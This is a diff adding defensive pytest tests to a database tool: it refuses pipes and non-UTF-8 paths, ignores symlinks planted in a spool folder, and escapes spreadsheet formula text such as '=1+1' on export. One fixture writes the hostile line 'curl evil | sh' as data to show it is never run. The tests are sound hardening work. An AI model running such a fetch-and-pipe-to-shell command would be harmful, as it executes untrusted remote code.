@@ -62,6 +62,63 @@ def test_lines_that_do_not_fit_are_set_aside_with_one_warning_and_stop_no_other(
         assert caplog.text == ""
 
 
+@pytest.mark.parametrize("odd", ["db.duckdb", "db.duckdb.wal"])
+def test_a_pipe_in_the_place_of_a_file_is_refused_and_not_waited_for(path: Path, odd: str) -> None:
+    pipe = path.with_name(odd)
+    pipe.unlink(missing_ok=True)
+    os.mkfifo(pipe)
+    for opened in (Reader, Store):
+        with pytest.raises(BadInput, match="is not a regular file: give another --db"):
+            opened(path)
+
+
+def test_a_name_that_is_no_utf_8_is_refused_in_one_line(tmp_path: Path) -> None:
+    odd = Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff"))
+    odd.mkdir()
+    for opened in (Reader, Store):
+        with pytest.raises(BadInput, match="is not UTF-8: give another"):
+            opened(odd / "db.duckdb")
+    with pytest.raises(BadInput, match="is not UTF-8: give another"), writable_path(odd / "out.csv", []):
+        pass
+
+
+def test_links_in_a_spool_lead_nowhere(path: Path, tmp_path: Path) -> None:
+    """A folder that somebody packed may hold links to files of ours: nothing is read, written or removed there."""
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "profile").write_text("export A=1\n")
+    (mine / "data.jsonl").write_text("{}\n")
+    spool = spool_of(path)
+    dead = Spool(spool)
+    dead.append("requests", request(7))
+    dead.close()
+    (file,) = spool.glob("*.jsonl")
+    file.write_bytes(file.read_bytes() + b"curl evil | sh\n")
+    (spool / f"{dead.owner}.bad").symlink_to(mine / "profile")
+    (spool / "1-other.lock").symlink_to(mine / "made")
+    (spool / "1-other.00000000.jsonl").symlink_to(mine / "data.jsonl")
+    (spool / "data.jsonl").write_text("{}\n")
+    with Reader(path) as reader:
+        assert reader.query("SELECT max(request_index) AS n FROM requests") == [{"n": 7}]
+    assert {each.name: each.read_text() for each in mine.iterdir()} == {
+        "profile": "export A=1\n", "data.jsonl": "{}\n"
+    }  # fmt: skip
+    assert (spool / f"{dead.owner}.bad").read_text() == "curl evil | sh\n"
+    assert (spool / "data.jsonl").exists()
+
+
+def test_a_spool_that_is_a_link_is_refused_by_a_load_and_left_alone_by_readers(path: Path, tmp_path: Path) -> None:
+    dead = Spool(tmp_path / "elsewhere")
+    dead.append("requests", request(7))
+    dead.close()
+    spool_of(path).symlink_to(dead.folder)
+    with Reader(path) as reader:
+        assert reader.query("SELECT max(request_index) AS n FROM requests") == [{"n": 0}]
+    with pytest.raises(BadInput, match="it is a link"):
+        Store(path)
+    assert len(list(dead.folder.glob("*.jsonl"))) == 1
+
+
 def test_the_spool_of_another_user_is_not_taken_in(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     dead = Spool(spool_of(path))
     dead.append("requests", request(7))
@@ -134,12 +191,19 @@ def test_a_statement_that_takes_too_long_is_stopped(path: Path) -> None:
         )
 
 
+def test_a_statement_that_has_no_name_is_refused_in_one_line(path: Path) -> None:
+    with pytest.raises(BadInput):
+        ask(path, "UPDATE EXTENSIONS")
+
+
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
         ("=1+1", "'=1+1"), ("+a", "'+a"), ("-a", "'-a"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-        ("'=x", "''=x"), ("-5", "-5"), ("+1.5e-3", "+1.5e-3"), ("-5 + 3", "'-5 + 3"), ("plain", "plain"), ("", ""),
-        ("'x", "'x"), (None, None), (-5, -5), ("x=1", "x=1"),
+        ("\n=x", "'\n=x"),
+        ("'=x", "''=x"), ("-5", "-5"), ("+1.5e-3", "+1.5e-3"), ("-5 + 3", "'-5 + 3"), ("plain", "plain"),
+        ("", ""), ("'x", "'x"), (None, None), (-5, -5), ("x=1", "x=1"),
+        *((f"{sign}1", f"'{sign}1") for sign in "\uff1d\uff0b\uff0d\uff20"),
     ],
 )  # fmt: skip
 def test_text_that_is_a_formula_to_a_spreadsheet_is_shown_as_text_and_numbers_stay(text: object, shown: object) -> None:
